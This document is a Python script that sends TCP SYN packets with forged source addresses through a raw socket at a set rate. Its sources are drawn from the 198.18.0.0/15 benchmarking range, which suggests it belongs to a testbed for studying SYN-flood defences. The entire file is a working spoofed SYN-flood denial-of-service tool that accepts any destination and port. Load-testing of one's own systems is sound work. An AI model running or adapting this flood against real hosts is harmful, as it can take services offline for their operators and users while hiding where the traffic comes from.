#!/usr/bin/env python3
"""Sends TCP SYNs with spoofed source addresses through a raw socket, at a steady rate.

usage: syn_flood.py DESTINATION PORT COUNT RATE

Sources are spread over 198.18.1.0-198.18.255.255 and 198.19.0.0-198.19.255.255 (inside 198.18.0.0/15, the
benchmarking range, and never the link's own 198.18.0.0/24). Each SYN has a random source port and ISN and the
options a Linux client sends (MSS 1460, SACK permitted, timestamps, window scale 7). Prints
"sent COUNT SECONDS RATE" at the end.
"""
import random
import socket
import struct
import sys
import time

destination, port, count, rate = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
dst = socket.inet_aton(destination)
rng = random.Random(20000)


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def source(i):
    # 198.18.1.0 .. 198.19.255.255: 130816 addresses, none in 198.18.0.0/24.
    n = 256 + (i * 7919) % (2 * 65536 - 256)
    return bytes([198, 18 + (n >> 16), (n >> 8) & 0xFF, n & 0xFF])


def syn(i):
    src = source(i)
    options = struct.pack("!BBH", 2, 4, 1460) + b"\x04\x02" + struct.pack("!BBII", 8, 10, rng.getrandbits(32), 0) \
        + b"\x01\x03\x03\x07"
    header_length = 20 + len(options)
    tcp = struct.pack("!HHIIBBHHH", rng.randrange(1024, 65536), port, rng.getrandbits(32), 0,
                      (header_length // 4) << 4, 0x02, 64240, 0, 0) + options
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), i & 0xFFFF, 0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


packets = [syn(i) for i in range(count)]
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # IP_HDRINCL is implied
s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 * 1024 * 1024)
batch = max(1, int(rate / 200))  # every 5 ms
start = time.monotonic()
sent = 0
while sent < count:
    due = start + sent / rate
    wait = due - time.monotonic()
    if wait > 0:
        time.sleep(wait)
    for p in packets[sent:sent + batch]:
        s.sendto(p, (destination, 0))
    sent += len(packets[sent:sent + batch])
elapsed = time.monotonic() - start
print(f"sent {sent} {elapsed:.2f} {sent / elapsed:.0f}", flush=True)
